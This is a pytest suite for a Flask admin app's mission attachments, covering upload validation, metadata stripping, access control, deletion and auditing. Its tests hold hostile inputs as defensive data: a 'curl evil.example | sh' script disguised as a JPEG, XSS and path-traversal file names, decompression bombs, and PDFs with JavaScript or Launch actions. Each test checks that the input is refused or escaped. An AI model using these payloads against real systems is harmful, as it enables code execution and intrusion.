"""A mission's attachments through HTTP: uploaded by partners, staff and admins, checked from
their content, re-encoded without metadata, kept in the database or a directory (each test that
stores something runs on both), served only to those who see the mission, deleted after a
confirmation, and gone with their client."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import stream_encode_multipart

from admin_app.data.models import AttachmentBlob, AuditEvent, MissionAttachment, User
from admin_app.domain.clients import delete_client
from admin_app.extensions import db
from tests import attachment_files as files
from tests.conftest import log_in, post_with_csrf, session_csrf_token
from tests.test_query_counts import counted_queries


def details(mission_id: str) -> str:
    return f"/admin/missions/details/?id={mission_id}"


def upload(client, mission_id: str, data: bytes, name: str = "photo.png", *, csrf: bool = True):
    form: dict[str, object] = {"file": FileStorage(io.BytesIO(data), name, "file", "image/png")}
    if csrf:
        form["csrf_token"] = session_csrf_token(client)
    # Built in memory: the test client would spool a large body to a file it never closes.
    body, _, boundary = stream_encode_multipart(MultiDict(form), use_tempfile=False)
    return client.post(
        f"/admin/missions/attachments/?id={mission_id}",
        data=body.getvalue(),
        content_type=f"multipart/form-data; boundary={boundary}",
    )


@pytest.fixture(params=["database", "directory"])
def storage(request, app, monkeypatch, tmp_path) -> str:
    """Each test using it runs with attachments in the database, then in a directory."""
    monkeypatch.setitem(app.config, "ATTACHMENT_STORAGE", request.param)
    monkeypatch.setitem(app.config, "ATTACHMENT_DIRECTORY", str(tmp_path / "attachments"))
    return request.param


def stored_files(app) -> list[Path]:
    return sorted(p for p in Path(app.config["ATTACHMENT_DIRECTORY"]).rglob("*") if p.is_file())


def stored_counts(app) -> tuple[int, int, int]:
    """Attachment rows, blob rows and files in the directory."""
    with app.app_context():
        rows = db.session.scalar(select(func.count()).select_from(MissionAttachment))
        blobs = db.session.scalar(select(func.count()).select_from(AttachmentBlob))
    return rows, blobs, len(stored_files(app))


def only_attachment(app) -> MissionAttachment:
    with app.app_context():
        row = db.session.scalars(select(MissionAttachment)).one()
        db.session.expunge(row)
        return row


def field_error(page: str) -> str:
    match = re.search(r'data-testid="attachment-error">([^<]*)<', page)
    assert match, "no error at the upload field"
    return match.group(1)


def test_partner_attaches_a_png_listed_with_its_thumbnail(app, client, world, storage):
    log_in(client, world.partner_a)

    response = upload(client, world.a_mission, files.png_bytes((640, 480)), "receipt.png")

    assert response.status_code == 302
    assert response.headers["Location"].startswith(details(world.a_mission))
    row = only_attachment(app)
    assert (row.file_name, row.media_type, row.stored_in) == ("receipt.png", "image/png", storage)
    assert row.uploaded_by_email == world.partner_a.email
    page = client.get(details(world.a_mission)).get_data(as_text=True)
    listed = page[page.index('data-testid="attachments"') :]
    assert "receipt.png" in listed and world.partner_a.email in listed
    assert f"/admin/missions/attachments/thumbnail/?id={row.id}" in listed
    thumbnail = client.get(f"/admin/missions/attachments/thumbnail/?id={row.id}")
    assert thumbnail.status_code == 200 and thumbnail.mimetype == "image/jpeg"
    assert max(Image.open(io.BytesIO(thumbnail.data)).size) == 240
    rows, blobs, on_disk = stored_counts(app)
    assert rows == 1
    assert (blobs, on_disk) == ((2, 0) if storage == "database" else (0, 2))


def test_downloads_are_attachments_with_nosniff_and_a_policy_that_runs_nothing(app, client, world):
    log_in(client, world.partner_a)
    upload(client, world.a_mission, files.png_bytes(), "scan.png")
    row = only_attachment(app)

    original = client.get(f"/admin/missions/attachments/file/?id={row.id}")
    thumbnail = client.get(f"/admin/missions/attachments/thumbnail/?id={row.id}")

    assert original.status_code == 200 and original.mimetype == "image/png"
    assert original.headers["Content-Disposition"] == "attachment; filename=scan.png"
    assert thumbnail.headers["Content-Disposition"].startswith("inline")
    for response in (original, thumbnail):
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        policy = response.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "sandbox" in policy
        assert "no-store" in response.headers["Cache-Control"]


def test_uploaded_photo_loses_its_exif_camera_and_gps_position(app, client, world, storage):
    photo = files.jpeg_with_gps()
    assert Image.open(io.BytesIO(photo)).getexif().get_ifd(0x8825)  # the test's photo has GPS
    log_in(client, world.staff_a)

    assert upload(client, world.a_mission, photo, "IMG_0001.JPG").status_code == 302

    row = only_attachment(app)
    kept = client.get(f"/admin/missions/attachments/file/?id={row.id}").data
    image = Image.open(io.BytesIO(kept))
    assert image.format == "JPEG" and image.size == (300, 200)
    assert not image.getexif() and not image.getexif().get_ifd(0x8825)
    assert b"Exif" not in kept and files.CAMERA.encode() not in kept
    assert row.file_name == "IMG_0001.JPG" and row.uploaded_by_email == world.staff_a.email


def test_png_text_chunks_and_webp_metadata_are_not_kept(app, client, world):
    log_in(client, world.partner_a)
    upload(client, world.a_mission, files.png_with_text("home: 12 rue des Lilas"), "a.png")
    upload(client, world.a_mission, files.webp_bytes(), "b.webp")

    with app.app_context():
        rows = db.session.scalars(select(MissionAttachment).order_by(MissionAttachment.file_name))
        ids = [(row.id, row.media_type, row.thumbnail_type) for row in rows]
    assert [kinds for _, *kinds in ids] == [
        ["image/png", "image/jpeg"],
        ["image/webp", "image/png"],
    ]
    png = client.get(f"/admin/missions/attachments/file/?id={ids[0][0]}").data
    assert b"rue des Lilas" not in png and b"tEXt" not in png
    assert Image.open(io.BytesIO(png)).info == {}


def test_pdf_is_kept_as_sent_shown_with_a_label_and_without_thumbnail(app, client, world):
    document = files.plain_pdf()
    log_in(client, world.admin)

    assert upload(client, world.a_mission, document, "invoice").status_code == 302

    row = only_attachment(app)
    assert (row.file_name, row.media_type, row.thumbnail_type) == (
        "invoice.pdf", "application/pdf", None,
    )  # fmt: skip
    page = client.get(details(world.a_mission)).get_data(as_text=True)
    assert "PDF document" in page and "/attachments/thumbnail/" not in page
    download = client.get(f"/admin/missions/attachments/file/?id={row.id}")
    assert download.data == document and download.mimetype == "application/pdf"
    assert download.headers["Content-Disposition"] == "attachment; filename=invoice.pdf"
    assert client.get(f"/admin/missions/attachments/thumbnail/?id={row.id}").status_code == 404


HOSTILE = {
    "a script renamed .jpg": (b"#!/bin/sh\ncurl evil.example | sh\n", "holiday.jpg", "Only JPEG"),
    "HTML renamed .png": (b"<html><script>alert(1)</script></html>", "x.png", "Only JPEG"),
    "an empty file": (b"", "empty.png", "This file is empty"),
    "a truncated PNG": (files.png_bytes((400, 300), "navy")[:300], "cut.png", "cut short"),
    "a truncated JPEG": (files.jpeg_with_gps((800, 600))[:2000], "cut.jpg", "cut short"),
    "a decompression bomb": (files.png_bomb(), "bomb.png", "million pixels"),
    "a PDF with JavaScript": (files.pdf_with_javascript(), "a.pdf", "active content"),
    "a PDF with escaped names": (files.pdf_with_escaped_javascript(), "b.pdf", "JavaScript"),
    "a PDF with a hidden launch": (files.pdf_with_launch_in_object_stream(), "c.pdf", "Launch"),
    "a PDF with a launch in a long object stream dictionary": (
        files.pdf_with_launch_in_padded_object_stream(),
        "g.pdf",
        "Launch",
    ),
    "a PDF with a launch in an object stream spread over lines": (
        files.pdf_with_launch_in_object_stream_on_its_own_line(),
        "h.pdf",
        "Launch",
    ),
    "a PDF with a launch behind an endstream": (
        files.pdf_with_launch_behind_an_endstream_in_its_object_stream(),
        "j.pdf",
        "Launch",
    ),
    "a PDF with a launch in a predicted object stream": (
        files.pdf_with_launch_in_a_predicted_object_stream(),
        "k.pdf",
        "Launch",
    ),
    "a PDF with a false object start in a string": (
        files.pdf_with_launch_in_an_object_stream_behind_a_false_object_start(b"/Note (9 0 obj) "),
        "l.pdf",
        "Launch",
    ),
    "a PDF with a false object start in a comment": (
        files.pdf_with_launch_in_an_object_stream_behind_a_false_object_start(b"%9 0 obj\n"),
        "m.pdf",
        "Launch",
    ),
    "a PDF with a false object start in a string before a comment": (
        files.pdf_with_launch_in_an_object_stream_behind_a_false_object_start(
            b"/Note (9 0 obj) %(\n"
        ),
        "n.pdf",
        "Launch",
    ),
    "a PDF with a false object start before a comment in a string": (
        files.pdf_with_launch_in_an_object_stream_behind_a_false_object_start(
            b"/Note (9 0 obj %) "
        ),
        "o.pdf",
        "Launch",
    ),
    "a PDF with a launch in a hexadecimal object stream": (
        files.pdf_with_launch_in_a_hex_object_stream(),
        "p.pdf",
        "Launch",
    ),
    "a PDF with a zip bomb in its object stream": (
        files.pdf_with_a_zlib_bomb_in_its_object_stream(),
        "q.pdf",
        "cannot be read",
    ),
    "a PDF with an XFA form": (files.pdf_with_xfa_form(), "i.pdf", "XFA"),
    "a PDF with embedded files": (files.pdf_with_embedded_file(), "d.pdf", "EmbeddedFile"),
    "an encrypted PDF": (files.encrypted_pdf(), "e.pdf", "encrypted"),
    "a PDF without its end": (files.plain_pdf()[:-20], "f.pdf", "not a complete PDF"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_at_the_field_and_nothing_is_stored(
    app, client, world, storage, name
):
    data, file_name, words = HOSTILE[name]
    log_in(client, world.partner_a)

    response = upload(client, world.a_mission, data, file_name)

    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert words in field_error(page)
    assert 'data-testid="no-attachments"' in page
    assert stored_counts(app) == (0, 0, 0)


def test_a_pdf_whose_objects_a_writer_packed_in_object_streams_is_accepted(app, client, world):
    document = files.pdf_with_object_streams()
    assert b"/ObjStm" in document  # the test's document has an object stream
    log_in(client, world.partner_a)

    assert upload(client, world.a_mission, document, "packed.pdf").status_code == 302

    row = only_attachment(app)
    assert row.media_type == "application/pdf"
    assert client.get(f"/admin/missions/attachments/file/?id={row.id}").data == document


def test_the_pdf_refusal_names_what_it_found(app, client, world):
    log_in(client, world.partner_a)
    page = upload(client, world.a_mission, files.pdf_with_javascript(), "x.pdf").get_data(
        as_text=True
    )
    assert "active content (JavaScript, OpenAction)" in field_error(page)


def test_an_image_past_the_pixel_cap_is_refused(app, client, world, monkeypatch):
    monkeypatch.setitem(app.config, "ATTACHMENT_MAX_PIXELS", 1_000_000)
    log_in(client, world.partner_a)

    response = upload(client, world.a_mission, files.png_bytes((1200, 1000)), "big.png")

    assert "more than 1 million pixels" in field_error(response.get_data(as_text=True))
    assert stored_counts(app)[0] == 0


def test_a_body_over_the_limit_answers_413_before_it_is_read(app, client, world):
    log_in(client, world.partner_a)
    too_big = b"\x89PNG\r\n\x1a\n" + b"\0" * (10 * 1024 * 1024 + 100 * 1024)

    response = upload(client, world.a_mission, too_big, "huge.png")

    assert response.status_code == 413
    message = response.get_data(as_text=True)
    assert "This file is larger than 10 MB" in message and "nothing was saved" in message
    assert stored_counts(app)[0] == 0


def test_a_file_over_the_limit_within_the_form_allowance_is_named_at_the_field(
    app, client, world, monkeypatch
):
    monkeypatch.setitem(app.config, "ATTACHMENT_MAX_BYTES", 2 * 1024 * 1024)
    log_in(client, world.partner_a)

    response = upload(client, world.a_mission, b"\xff\xd8\xff" + b"\0" * (2 * 1024 * 1024), "x")

    assert response.status_code == 200
    assert "larger than 2 MB" in field_error(response.get_data(as_text=True))


def test_other_pages_keep_their_one_megabyte_limit(app, client, world):
    log_in(client, world.partner_a)
    response = post_with_csrf(client, "/admin/missions/note/", {"text": "x" * 2_000_000})
    assert response.status_code == 413


def test_no_file_chosen_says_so_at_the_field(app, client, world):
    log_in(client, world.partner_a)
    response = client.post(
        f"/admin/missions/attachments/?id={world.a_mission}",
        data={"csrf_token": session_csrf_token(client)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert "Choose a file to attach." in field_error(response.get_data(as_text=True))


def test_upload_without_csrf_token_is_refused_and_stores_nothing(app, client, world):
    log_in(client, world.partner_a)
    response = upload(client, world.a_mission, files.png_bytes(), csrf=False)
    assert response.status_code == 400
    assert stored_counts(app)[0] == 0


def test_file_names_are_escaped_and_lose_their_folders(app, client, world):
    log_in(client, world.partner_a)
    upload(
        client, world.a_mission, files.png_bytes(), "C:/Users/me/<img src=x onerror=alert(1)>.png"
    )
    upload(client, world.a_mission, files.plain_pdf(), "../../etc/passwd")

    page = client.get(details(world.a_mission)).get_data(as_text=True)

    assert "&lt;img src=x onerror=alert(1)&gt;.png" in page and "<img src=x" not in page
    assert "Users" not in page
    assert ">passwd.pdf<" in page and "etc/passwd" not in page


def attachment_urls(attachment_id: str) -> list[str]:
    return [
        f"/admin/missions/attachments/file/?id={attachment_id}",
        f"/admin/missions/attachments/thumbnail/?id={attachment_id}",
        f"/admin/missions/attachments/delete/?id={attachment_id}",
    ]


def a_attachment(app, client, world) -> str:
    """An attachment of partner A's mission, uploaded by partner A on its own client."""
    owner = app.test_client()
    log_in(owner, world.partner_a)
    upload(owner, world.a_mission, files.png_bytes())
    return only_attachment(app).id


@pytest.mark.parametrize("who", ["partner_b", "staff_b"])
def test_another_shop_gets_404_for_file_thumbnail_and_delete(app, client, world, who):
    attachment_id = a_attachment(app, client, world)
    log_in(client, getattr(world, who))

    for url in attachment_urls(attachment_id):
        assert client.get(url).status_code == 404, url
    assert post_with_csrf(client, attachment_urls(attachment_id)[2]).status_code == 404
    assert upload(client, world.a_mission, files.png_bytes()).status_code == 404
    assert stored_counts(app)[0] == 1
    with app.app_context():
        refused = db.session.scalars(
            select(AuditEvent.target).where(AuditEvent.action == "access.refused")
        ).all()
    assert f"mission_attachment:{attachment_id}" in refused


def test_unknown_or_malformed_ids_answer_404(app, client, world):
    log_in(client, world.admin)
    for url in attachment_urls("00000000-0000-4000-8000-000000000000") + attachment_urls("1,2"):
        assert client.get(url).status_code == 404, url


def test_support_reads_and_downloads_but_never_uploads_or_deletes(app, client, world):
    attachment_id = a_attachment(app, client, world)
    log_in(client, world.support)

    page = client.get(details(world.a_mission)).get_data(as_text=True)

    assert 'data-testid="attachments"' in page
    assert 'data-testid="attachment-form"' not in page and "/attachments/delete/" not in page
    assert client.get(attachment_urls(attachment_id)[0]).status_code == 200
    assert client.get(attachment_urls(attachment_id)[1]).status_code == 200
    assert client.get(attachment_urls(attachment_id)[2]).status_code == 403
    assert post_with_csrf(client, attachment_urls(attachment_id)[2]).status_code == 403
    assert upload(client, world.a_mission, files.png_bytes()).status_code == 403
    assert stored_counts(app)[0] == 1


def test_delete_asks_first_then_removes_the_bytes_and_is_audited(app, client, world, storage):
    log_in(client, world.staff_a)
    upload(client, world.a_mission, files.png_bytes(), "to-delete.png")
    row = only_attachment(app)
    delete_url = f"/admin/missions/attachments/delete/?id={row.id}"

    confirm = client.get(delete_url).get_data(as_text=True)
    assert "Delete the attachment to-delete.png?" in confirm
    assert stored_counts(app)[0] == 1
    assert client.post(delete_url).status_code == 400  # no CSRF token: nothing deleted
    assert stored_counts(app)[0] == 1

    deleted = post_with_csrf(client, delete_url)

    assert deleted.status_code == 302 and deleted.headers["Location"].startswith(
        details(world.a_mission)
    )
    assert stored_counts(app) == (0, 0, 0)
    page = client.get(details(world.a_mission)).get_data(as_text=True)
    assert "to-delete.png is deleted." in page and 'data-testid="no-attachments"' in page
    with app.app_context():
        events = db.session.execute(
            select(AuditEvent.action, AuditEvent.actor_email, AuditEvent.details)
            .where(AuditEvent.action.like("attachment.%"))
            .order_by(AuditEvent.id)
        ).all()
    assert [(action, actor) for action, actor, _ in events] == [
        ("attachment.add", world.staff_a.email),
        ("attachment.delete", world.staff_a.email),
    ]
    assert all("to-delete" not in details_ and '"size"' in details_ for *_, details_ in events)


def test_deleting_or_erasing_a_client_removes_its_attachments_and_files(
    app, client, world, storage
):
    log_in(client, world.admin)
    upload(client, world.a_mission, files.png_bytes(), "a.png")
    upload(client, world.b_mission, files.png_bytes(), "b.png")
    assert stored_counts(app)[0] == 2

    with app.app_context():
        delete_client(world.a_client, db.session.get_one(User, world.partner_a.id))
    assert stored_counts(app) == ((1, 2, 0) if storage == "database" else (1, 0, 2))

    erased = post_with_csrf(client, "/admin/clients/erase/", {"id": world.b_client})
    assert erased.status_code == 302
    assert stored_counts(app) == (0, 0, 0)


def test_personal_data_export_lists_attachments_without_their_bytes(app, client, world):
    log_in(client, world.admin)
    upload(client, world.a_mission, files.png_bytes(), "id-card.png")
    upload(client, world.a_mission, files.plain_pdf(), "contract.pdf")

    data = client.get(f"/admin/clients/personal-data/?id={world.a_client}").get_json()

    (mission,) = data["missions"]
    listed = [(a["file_name"], a["type"], a["by"]) for a in mission["attachments"]]
    assert listed == [
        ("id-card.png", "image/png", world.admin.email),
        ("contract.pdf", "application/pdf", world.admin.email),
    ]
    assert all(a["size"] > 0 and a["at"] for a in mission["attachments"])
    assert set(mission["attachments"][0]) == {"file_name", "type", "size", "at", "by"}


def test_mission_page_lists_attachments_in_the_same_queries_with_2_and_12(app, client, world):
    log_in(client, world.partner_a)
    url = details(world.a_mission)

    def page_queries(uploads: int) -> int:
        for _ in range(uploads):
            upload(client, world.a_mission, files.png_bytes())
        with counted_queries(app) as statements:
            assert client.get(url).status_code == 200
        return len(statements)

    few = page_queries(2)
    many = page_queries(10)

    assert few == many
    page = client.get(url).get_data(as_text=True)
    assert page.count('class="attachment-thumbnail"') == 12


def test_mission_page_without_attachments_says_so_and_offers_the_form(app, client, world):
    log_in(client, world.partner_a)
    page = client.get(details(world.a_mission)).get_data(as_text=True)
    assert "No attachment yet." in page and 'enctype="multipart/form-data"' in page


def test_the_attachments_speak_french(app, client, world):
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "fr"
    log_in(client, world.partner_a)

    page = client.get(details(world.a_mission)).get_data(as_text=True)
    refused = upload(client, world.a_mission, b"#!/bin/sh\n", "x.jpg").get_data(as_text=True)

    assert "Pièces jointes" in page and "Aucune pièce jointe" in page
    assert "Seules les images JPEG" in field_error(refused)


def test_the_audit_log_names_attachment_events_in_words(app, client, world):
    log_in(client, world.partner_a)
    upload(client, world.a_mission, files.png_bytes(), "private-name.png")
    admin = app.test_client()
    log_in(admin, world.admin)

    page = admin.get("/admin/audit/").get_data(as_text=True)

    assert "Attachment added" in page and "Size in bytes" in page
    assert "private-name" not in page
